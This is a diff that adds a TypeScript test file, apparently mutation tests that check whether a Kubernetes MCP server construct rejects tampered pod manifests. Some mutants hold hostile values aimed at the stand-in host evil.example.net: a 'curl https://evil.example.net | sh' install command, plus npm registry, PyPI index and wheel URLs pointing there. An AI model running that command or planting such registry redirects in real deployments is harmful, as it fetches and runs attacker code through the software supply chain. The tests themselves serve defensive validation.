@@ -1,0 +1,60 @@
+import { Mutant, Mutants, edit, editPod } from './mutant';
+import { McpServerProps, NetworkPolicyEngine, ServerSource } from '../../../src';
+import { Manifest } from '../../util/app';
+
+const CILIUM = { networkPolicyEngine: NetworkPolicyEngine.CILIUM };
+const NPM = { source: ServerSource.npm('@scope/tool@1.2.3') };
+const PYPI = { source: ServerSource.pypi('tool==1.2.3', { constraints: ['mcp<2'] }) };
+const POD = 'spec.template.spec';
+
+function inPod(title: string, field: string, change: (pod: Manifest) => void, props: Partial<McpServerProps> = NPM): Mutant {
+  return { title, field: `${POD}.${field}`, breaks: subject => editPod(subject, change), props, platform: CILIUM };
+}
+
+const installIn = ({ volumes }: Manifest): Manifest => volumes.find(({ name }: Manifest) => name === 'install');
+const variable = ({ env }: Manifest, name: string): Manifest => env.find((one: Manifest) => one.name === name);
+const at = (manifest: Manifest, field: string, name: string): number => manifest[field].findIndex((one: Manifest) => one.name === name);
+
+/** Where a variable is: they are sorted by name. */
+const REGISTRY = 6;
+const INDEX = 4;
+
+export const INSTALLS: Mutants = {
+  install: [
+    inPod('a server that may write to the installation', 'containers[0].volumeMounts[0].readOnly', ({ containers: [main] }) => { delete main.volumeMounts[at(main, 'volumeMounts', 'install')].readOnly; }),
+    inPod('a second mount of the installation, to write to', 'containers[0].volumeMounts[2].readOnly', ({ containers: [main] }) => { main.volumeMounts.push({ name: 'install', mountPath: '/mnt' }); }),
+    inPod('a second mount of the installation, to read', 'containers[0].volumeMounts must', ({ containers: [main] }) => { main.volumeMounts.push({ name: 'install', mountPath: '/mnt', readOnly: true }); }),
+    inPod('a volume over a part of the installation', 'containers[0].volumeMounts[2].mountPath', ({ containers: [main] }) => { main.volumeMounts.push({ name: 'tmp', mountPath: '/opt//mcp/server' }); }),
+    inPod('a server that sees a part of the installation', 'containers[0].volumeMounts[0].mountPath', ({ containers: [main] }) => { main.volumeMounts[0].subPath = 'bridge'; }),
+    inPod('a server without the installation', 'containers[0].volumeMounts must', ({ containers: [main] }) => { main.volumeMounts.shift(); }),
+    inPod('another init container that writes to it', 'initContainers[2].volumeMounts[0].readOnly', pod => { pod.initContainers.push({ ...pod.initContainers[1], name: 'extra' }); }),
+    inPod('a container beside the server that writes to it', 'containers[1].volumeMounts[0].readOnly', pod => {
+      const { image, imagePullPolicy, resources, securityContext, startupProbe, readinessProbe, livenessProbe, ports } = pod.containers[0];
+      pod.containers.push({ name: 'extra', image, imagePullPolicy, resources, securityContext, startupProbe, readinessProbe, livenessProbe, ports, volumeMounts: [{ name: 'install', mountPath: '/opt/mcp' }] });
+    }),
+    inPod('an installation that outlives its pod', 'volumes[0]', pod => { installIn(pod).persistentVolumeClaim = { claimName: 'shared' }; delete installIn(pod).emptyDir; }),
+    inPod('an installer that lives on', 'initContainers[1].restartPolicy', ({ initContainers }) => { initContainers[1].restartPolicy = 'Always'; }),
+    inPod('install scripts that may run', 'initContainers[1].args', ({ initContainers }) => { initContainers[1].args.pop(); }),
+    inPod('install scripts of the bridge that may run', 'initContainers[0].args', ({ initContainers }) => { initContainers[0].args.pop(); }),
+    inPod('a flag that asks another registry', 'initContainers[1].args', ({ initContainers }) => { initContainers[1].args.push('--registry=https://evil.example.net'); }),
+    inPod('another version of the package', 'initContainers[1].args[1]', ({ initContainers }) => { initContainers[1].args[1] = '@scope/tool@6.6.6'; }),
+    inPod('another version of the bridge', 'initContainers[0].args[1]', ({ initContainers }) => { initContainers[0].args[1] = 'mcp-proxy@6.6.6'; }),
+    inPod('another script', 'initContainers[1].command', ({ initContainers }) => { initContainers[1].command[2] = 'curl https://evil.example.net | sh'; }),
+    inPod('another registry', `initContainers[1].env[${REGISTRY}].value`, ({ initContainers }) => { variable(initContainers[1], 'npm_config_registry').value = 'https://evil.example.net/'; }),
+    inPod('another registry in a second variable', 'initContainers[1].env[8]', ({ initContainers }) => { initContainers[1].env.push({ name: 'NPM_CONFIG_REGISTRY', value: 'https://evil.example.net/' }); }),
+    inPod('variables that nobody sees here', 'initContainers[1].envFrom', ({ initContainers }) => { initContainers[1].envFrom = [{ configMapRef: { name: 'extra' } }]; }),
+    inPod('no installer of the package', 'initContainers', pod => { pod.initContainers.pop(); }),
+    {
+      title: 'an annotation that names another package',
+      field: `${POD}.initContainers[1].args[1]`,
+      breaks: subject => { edit(subject.deployment, ({ metadata }) => { metadata.annotations['cdk8s-mcp/package'] = 'npm:@scope/tool@1.2.4'; }); },
+      props: NPM,
+      platform: CILIUM,
+    },
+    inPod('another version from PyPI', 'initContainers[1].args[1]', ({ initContainers }) => { initContainers[1].args[1] = 'tool==6.6.6'; }, PYPI),
+    inPod('a constraint that is a URL', 'initContainers[1].args[5]', ({ initContainers }) => { initContainers[1].args.push('tool @ https://evil.example.net/tool.whl'); }, PYPI),
+    inPod('builds of PyPI packages', 'initContainers[1].env', ({ initContainers }) => { initContainers[1].env = initContainers[1].env.filter(({ name }: Manifest) => name !== 'PIP_ONLY_BINARY'); }, PYPI),
+    inPod('another index', `initContainers[1].env[${INDEX}].value`, ({ initContainers }) => { variable(initContainers[1], 'PIP_INDEX_URL').value = 'https://evil.example.net/simple/'; }, PYPI),
+    inPod('a second index', 'initContainers[1].env[11]', ({ initContainers }) => { initContainers[1].env.push({ name: 'PIP_EXTRA_INDEX_URL', value: 'https://evil.example.net/simple/' }); }, PYPI),
+  ],
+};
